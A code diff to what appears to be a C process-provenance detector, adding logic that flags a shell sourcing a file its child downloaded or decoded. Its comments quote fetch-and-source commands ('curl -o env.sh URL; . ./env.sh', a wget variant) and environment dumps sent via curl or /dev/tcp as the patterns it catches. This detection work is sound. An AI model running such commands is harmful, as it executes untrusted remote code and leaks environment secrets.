@@ -40,6 +40,13 @@
  */
 #define PROV_F_CAPTURE_EVALUATES (1u << 23)
 #define PROV_F_CAPTURED (1u << 27)
+/*
+ * A child of this shell wrote a downloaded or decoded file since the
+ * shell's text was last read (DROP_BY_CHILD), and that text sources one
+ * (`curl -o env.sh URL; . ./env.sh`: SOURCES_DROP).
+ */
+#define PROV_F_SOURCES_DROP (1u << 18)
+#define PROV_F_DROP_BY_CHILD (1u << 19)
 /* The program writes to a descriptor its command line names (tee /dev/fd/63: a >(...)). */
 #define PROV_F_FD_WRITER (1u << 20)
 /* A network program's starting shell's text was read for a builtin dump of the environment (builtin_env_tags), and has one. */
@@ -818,6 +825,25 @@ static char *join_argv(const struct bw_proc *p)
 }
 
 /* Remember that path was written by p, which carries tags. */
+/*
+ * A file downloaded or decoded by p: the shell that started p may source
+ * it, which no exec shows (`curl -o env.sh URL; . ./env.sh`). That shell
+ * is judged again, its text read once more (sourced_drop_tags).
+ */
+static void mark_shell_of_writer(const struct bw_proc *p, uint32_t tags, struct prov_rejudge *out)
+{
+	struct bw_proc *sh = p->parent;
+
+	if (!(tags & (BW_PROV_NETWORK | BW_PROV_DECODER)))
+		return;
+	for (int i = 0; sh && !sh->n_execs && i < 8; i++)
+		sh = sh->parent;
+	if (!sh || !sh->n_execs || sh->exited || !in_list(shells, program_base(sh)))
+		return;
+	sh->prov |= PROV_F_DROP_BY_CHILD;
+	rejudge_add(out, sh);
+}
+
 static void drop_record(struct provenance *pv, const char *path, const struct bw_proc *p,
 			uint32_t tags, struct prov_rejudge *out)
 {
@@ -840,6 +866,7 @@ static void drop_record(struct provenance *pv, const char *path, const struct bw
 	pv->env_drops_recorded += !!(tags & BW_PROV_ENVIRONMENT);
 	out->dropped = d->path;
 	out->dropped_tags = tags | BW_PROV_WRITTEN;
+	mark_shell_of_writer(p, tags, out);
 }
 
 /*
@@ -1688,6 +1715,46 @@ static void loaded_exe(struct provenance *pv, const struct bw_proc *p, struct bw
 		info->exe = pv->loaded_path;
 }
 
+/* How many downloaded files' names a shell's text is searched for. */
+#define SOURCED_NAMES_MAX 16
+
+/*
+ * What a shell sources that its children downloaded or decoded (`curl -o
+ * env.sh URL; source env.sh`, `f=$T/x.sh; wget -O "$f" URL; . "$f"`): read
+ * once after each such file, the answer kept in its provenance bits.
+ */
+static uint32_t sourced_drop_tags(struct provenance *pv, struct bw_proc *p, uint32_t from,
+				  const char *operand)
+{
+	const char *files[SOURCED_NAMES_MAX], *writers[SOURCED_NAMES_MAX];
+	struct sourced_names s = { files, 0, writers, 0 };
+	uint32_t tags = 0;
+	size_t len;
+	char *text;
+
+	if (!(p->prov & (PROV_F_DROP_BY_CHILD | PROV_F_SOURCES_DROP)))
+		return 0;
+	for (size_t i = 0; i < PROV_DROPS; i++) {
+		const struct prov_drop *d = &pv->drops[i];
+
+		if (!d->path || !(d->tags & (BW_PROV_NETWORK | BW_PROV_DECODER)))
+			continue;
+		tags |= d->tags & (BW_PROV_NETWORK | BW_PROV_DECODER);
+		if (s.n_files < SOURCED_NAMES_MAX) {
+			files[s.n_files++] = path_basename(d->path);
+			writers[s.n_writers++] = path_basename(d->writer_exe);
+		}
+	}
+	if ((p->prov & PROV_F_DROP_BY_CHILD) && s.n_files &&
+	    !program_text(p, from, operand, &text, &len)) {
+		if (script_sources_file(text, len, &s))
+			p->prov |= PROV_F_SOURCES_DROP;
+		free(text);
+	}
+	p->prov &= ~PROV_F_DROP_BY_CHILD;
+	return p->prov & PROV_F_SOURCES_DROP ? tags : 0;
+}
+
 /*
  * The environment dumped into p, a program that talks to the network, by
  * a builtin of the shell that started it (export -p | curl -d @- …,
@@ -1748,6 +1815,7 @@ void prov_fill(struct provenance *pv, const struct bw_proctab *t, struct bw_proc
 				    (p->prov & BW_PROC_PROV_CONNECTED_BEFORE_EXEC ? BW_PROV_NETWORK : 0) |
 				    script_from_parent_tags(p) | xargs_tags(pv, p);
 	info->script_prov |= evaluated_capture_tags(pv, t, p, info->program_from, operand) |
+			     sourced_drop_tags(pv, p, info->program_from, operand) |
 			     (p->prov & PROV_F_TEXT_FETCH_EVAL ? BW_PROV_NETWORK : 0);
 	info->sends_prov = sends_tags(pv, t, p) | builtin_env_tags(p);
 	/* `env > /dev/tcp/HOST/PORT`, `env | base64 > /dev/tcp/…`: a dump written into a socket */
